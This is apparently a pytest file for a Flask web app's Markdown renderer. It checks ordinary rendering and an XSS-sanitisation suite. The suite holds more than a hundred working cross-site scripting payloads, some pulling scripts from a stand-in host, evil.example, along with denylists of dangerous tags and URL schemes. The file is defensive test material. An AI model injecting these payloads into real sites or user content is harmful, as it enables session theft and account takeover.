"""Markdown rendering: ordinary Markdown survives, and a large XSS corpus never gets through."""

from __future__ import annotations

import unicodedata
from html.parser import HTMLParser

import pytest
from flask import Flask, render_template_string
from markupsafe import Markup, escape

from core.web.markdown import plain_excerpt, register_markdown_filter, render_markdown

# Written out independently of core.markdown so that widening the module's allow-list fails a test.
ALLOWED_TAGS = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "b", "i", "code", "pre"),
    *("blockquote", "ul", "ol", "li", "a", "img", "table", "thead", "tbody", "tr", "th", "td"),
    *("dl", "dt", "dd", "sup", "sub", "del", "abbr"),
}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title"},
    "abbr": {"title"},
    "code": {"class"},
    "sup": {"id"},
    "li": {"id"},
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "poster", "data", "xlink:href"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
FORBIDDEN_SUBSTRINGS = (
    *("<script", "<style", "<iframe", "<object", "<embed", "<svg", "<math", "<form", "<input"),
    *("<base", "<meta", "<link", "<details", "<div"),
)
LINK_REL = "nofollow noopener noreferrer"


def _squash_url(value: str) -> str:
    """An attribute value as a browser sees its scheme: no whitespace/control characters, lowercase."""
    # HTMLParser has already unescaped the value exactly once, as a browser does; unescaping again would
    # flag harmless literals such as href="javascript&amp;colon;x" (a relative path).
    kept = (ch for ch in value if not ch.isspace() and unicodedata.category(ch) not in {"Cc", "Cf", "Zs"})
    return "".join(kept).lower()


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"disallowed tag <{tag}>")
        allowed = ALLOWED_ATTRIBUTES.get(tag, set())
        names = set()
        for name, value in attrs:
            names.add(name)
            if name.startswith("on"):
                self.problems.append(f"event handler {name} on <{tag}>")
            if name == "style":
                self.problems.append(f"style attribute on <{tag}>")
            if name not in allowed:
                self.problems.append(f"unexpected attribute {name} on <{tag}>")
            if name in URL_ATTRIBUTES and _squash_url(value or "").startswith(BAD_SCHEMES):
                self.problems.append(f"dangerous URL in {tag}[{name}]: {value!r}")
            if tag == "a" and name == "rel" and value != LINK_REL:
                self.problems.append(f"wrong rel {value!r}")
        if tag == "a" and "rel" not in names:
            self.problems.append("link without rel")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"disallowed end tag </{tag}>")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"unknown declaration {data!r}")


def html_problems(output: str) -> list[str]:
    """Every reason the rendered HTML is unsafe; empty when it passes."""
    checker = _Checker()
    checker.feed(output)
    checker.close()
    lowered = output.lower()
    checker.problems.extend(f"raw {s!r} in output" for s in FORBIDDEN_SUBSTRINGS if s in lowered)
    return checker.problems


# --- the checker itself --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "bad_html",
    [
        "<script>alert(1)</script>",
        "<p><img src=x onerror=alert(1)></p>",
        '<p style="color:red">x</p>',
        '<a href="javascript:alert(1)" rel="nofollow noopener noreferrer">x</a>',
        '<a href="  JaVa&#x09;ScRiPt:alert(1)" rel="nofollow noopener noreferrer">x</a>',
        '<a href="&#106;avascript:alert(1)" rel="nofollow noopener noreferrer">x</a>',
        '<a href="\x01java\u200bscript:alert(1)" rel="nofollow noopener noreferrer">x</a>',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        '<a href="vbscript:msgbox(1)" rel="nofollow noopener noreferrer">x</a>',
        '<a href="https://example.com">no rel</a>',
        '<a href="https://example.com" rel="opener">wrong rel</a>',
        "<p>ok</p><!-- comment -->",
        "<svg><circle /></svg>",
        '<p class="admin-only">x</p>',
        "<iframe src=https://example.com></iframe>",
        "<p>&lt;ok&gt;</p><STYLE>x</STYLE>",
    ],
)
def test_checker_catches_known_bad_html(bad_html):
    assert html_problems(bad_html), f"checker let through {bad_html!r}"


def test_checker_passes_known_good_html():
    good = (
        '<p>x <a href="https://example.com" rel="nofollow noopener noreferrer">y</a></p>'
        '<p><img src="/static/a.png" alt="a"> &lt;script&gt; javascript:alert(1)</p>'
    )
    assert html_problems(good) == []


# --- ordinary Markdown ---------------------------------------------------------------------------

REL = 'rel="nofollow noopener noreferrer"'


@pytest.mark.parametrize(
    ("source", "expected_fragments"),
    [
        ("# Heading one", ["<h1>Heading one</h1>"]),
        ("### Heading three", ["<h3>Heading three</h3>"]),
        (
            "Some *em* and **strong** and `code`",
            ["<em>em</em>", "<strong>strong</strong>", "<code>code</code>"],
        ),
        ("line one\nline two", ["line one<br>", "line two"]),
        ("- apple\n- pear", ["<ul>", "<li>apple</li>", "<li>pear</li>"]),
        ("1. first\n2. second", ["<ol>", "<li>first</li>", "<li>second</li>"]),
        ("> quoted", ["<blockquote>", "<p>quoted</p>"]),
        ("---", ["<hr>"]),
        (
            '[site](https://example.com/a?b=1&c=2 "Title")',
            [f'<a href="https://example.com/a?b=1&amp;c=2" title="Title" {REL}>site</a>'],
        ),
        ("[relative](/portfolio/3)", [f'<a href="/portfolio/3" {REL}>relative</a>']),
        ("[mail](mailto:someone@example.com)", [f'<a href="mailto:someone@example.com" {REL}>mail</a>']),
        ("<https://example.com/auto>", [f'<a href="https://example.com/auto" {REL}>']),
        ("see https://example.com/bare now", [f'<a href="https://example.com/bare" {REL}>']),
        ("[ref][r]\n\n[r]: https://example.com/ref", [f'<a href="https://example.com/ref" {REL}>ref</a>']),
        (
            "```python\nif a < b:\n    print('<b>')\n```",
            ['<pre><code class="language-python">', "if a &lt; b:", "print('&lt;b&gt;')"],
        ),
        ("    indented code", ["<pre><code>indented code"]),
        (
            "| Name | Score |\n|:-----|------:|\n| Ann  | 5     |",
            ["<table>", "<thead>", "<th>Name</th>", "<tbody>", "<td>Ann</td>", "<td>5</td>"],
        ),
        # Images come only from files attached to activities (CSP img-src 'self'): others keep no src.
        ('![chart](/study/files/12 "A chart")', ['<img alt="chart" src="/study/files/12" title="A chart">']),
        ("![remote](https://example.com/a.png)", ['<img alt="remote">']),
        ("![other](/files/abc.png)", ['<img alt="other">']),
        (
            "Claim[^1]\n\n[^1]: The source.",
            ['<sup id="fnref:1"><a href="#fn:1"', '<li id="fn:1">', "The source."],
        ),
        ("*[CPD]: Continuing professional development\n\nCPD log", ['<abbr title="Continuing']),
        ("Term\n: Definition", ["<dl>", "<dt>Term</dt>", "<dd>Definition</dd>"]),
        (
            "H<sub>2</sub>O and x<sup>2</sup> <del>old</del>",
            ["<sub>2</sub>", "<sup>2</sup>", "<del>old</del>"],
        ),
        ("Tom & Jerry < 3", ["Tom &amp; Jerry &lt; 3"]),
        ("file setup.py stays text", ["file setup.py stays text"]),
    ],
)
def test_ordinary_markdown_survives(source, expected_fragments):
    output = render_markdown(source)
    assert isinstance(output, Markup)
    for fragment in expected_fragments:
        assert fragment in output, f"{fragment!r} missing from {output!r}"
    assert html_problems(str(output)) == []


def test_disallowed_tags_are_stripped_but_text_kept():
    output = render_markdown("<div><span>kept text</span></div>")
    assert "kept text" in output
    assert "<div" not in output
    assert "<span" not in output


@pytest.mark.parametrize("empty", [None, ""])
def test_empty_input_gives_empty_markup(empty):
    output = render_markdown(empty)
    assert output == ""
    assert isinstance(output, Markup)


# --- XSS corpus ----------------------------------------------------------------------------------

PAYLOADS = [
    # script tags and parser confusion
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x00>alert(1)</script>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
    "<img/src=x\tonerror=alert(1)>",
    '<a href="https://example.com" onmouseover\n=alert(1)>x</a>',
    '<p onclick="alert(1)">x</p>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>click",
    "<input onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>",
    # svg / math
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    # frames, objects, forms, head elements
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    # styles
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<img src="x" style="x:expression(alert(1))">',
    '<p style="color:red" class="x">x</p>',
    # raw anchors with hostile hrefs
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="javascript&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099'
    '&#0000114&#0000105&#0000112&#0000116:a">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://example.com" rel="opener" target="_blank">x</a>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(1)`>",
    # Markdown links and images
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x](javascript:alert(1) "title")',
    "[x](javascript://%0aalert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](\ufeffjavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](https://example.com" onclick="alert(1))',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](x" onerror="alert(1))',
    "![x](mailto:someone@example.com)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: <javascript:alert(1)> "t"',
    "![x][r]\n\n[r]: data:image/svg+xml,<svg onload=alert(1)>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    # attr_list / md_in_html / abbr / footnote injection attempts
    'para\n{: onclick="alert(1)" }',
    "# Head {: onmouseover=alert(1) }",
    '[x](https://example.com){: onclick="alert(1)"}',
    '![x](https://example.com/a.png){: onerror="alert(1)"}',
    '*x*{: style="background:url(javascript:alert(1))"}',
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "```{: onclick=alert(1)}\ncode\n```",
    '```html" onclick="alert(1)\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    '*[HTML]: " onmouseover="alert(1)\n\nHTML',
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    'x[^a" onclick="alert(1)]\n\n[^a" onclick="alert(1)]: y',
    "x[^1]\n\n[^1]: [y](javascript:alert(1))",
    "Term\n: <script>alert(1)</script>",
]

CONTEXTS = {
    "plain": "{}",
    "list": "- {}",
    "blockquote": "> {}",
    "emphasis": "*{}*",
    "table": "| a | b |\n|---|---|\n| {} | x |",
    "link_text": "[{}](https://example.com)",
    "heading": "## {}",
    "definition": "Term\n: {}",
}

XSS_CASES = [
    pytest.param(context.format(payload), id=f"{name}-{index}")
    for index, payload in enumerate(PAYLOADS)
    for name, context in CONTEXTS.items()
]


def test_xss_corpus_is_large_enough():
    assert len(XSS_CASES) >= 300


@pytest.mark.parametrize("source", XSS_CASES)
def test_xss_payload_is_neutralised(source):
    output = str(render_markdown(source))
    assert html_problems(output) == [], output


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xss_payload_excerpt_is_plain_text(payload):
    excerpt = plain_excerpt(payload)
    # A plain str (not Markup) is what makes Jinja escape it; escaped, it must pass the checker.
    assert type(excerpt) is str
    assert html_problems(str(escape(excerpt))) == []


# --- plain_excerpt and the Jinja filter ----------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "length", "expected"),
    [
        (None, 200, ""),
        ("", 200, ""),
        ("# Title\n\nFirst *para*.\n\n- one\n- two", 200, "Title First para. one two"),
        ("Tom &amp; Jerry <b>bold</b>", 200, "Tom & Jerry bold"),
        ("alpha beta gamma delta", 22, "alpha beta gamma delta"),
        ("alpha beta gamma delta", 15, "alpha beta…"),
        ("alpha beta gamma delta", 17, "alpha beta gamma…"),
        ("alpha beta, gamma delta", 13, "alpha beta…"),
        ("supercalifragilistic", 10, "supercali…"),
    ],
)
def test_plain_excerpt(source, length, expected):
    assert plain_excerpt(source, length) == expected


def test_plain_excerpt_never_exceeds_length():
    text = " ".join(f"word{n}" for n in range(200))
    for length in range(5, 120):
        assert len(plain_excerpt(text, length)) <= length


def test_markdown_filter_renders_in_templates():
    app = Flask(__name__)
    register_markdown_filter(app)
    with app.app_context():
        rendered = render_template_string("{{ body | markdown }}", body="*hi* <script>x</script>")
    assert rendered == "<p><em>hi</em> x</p>"
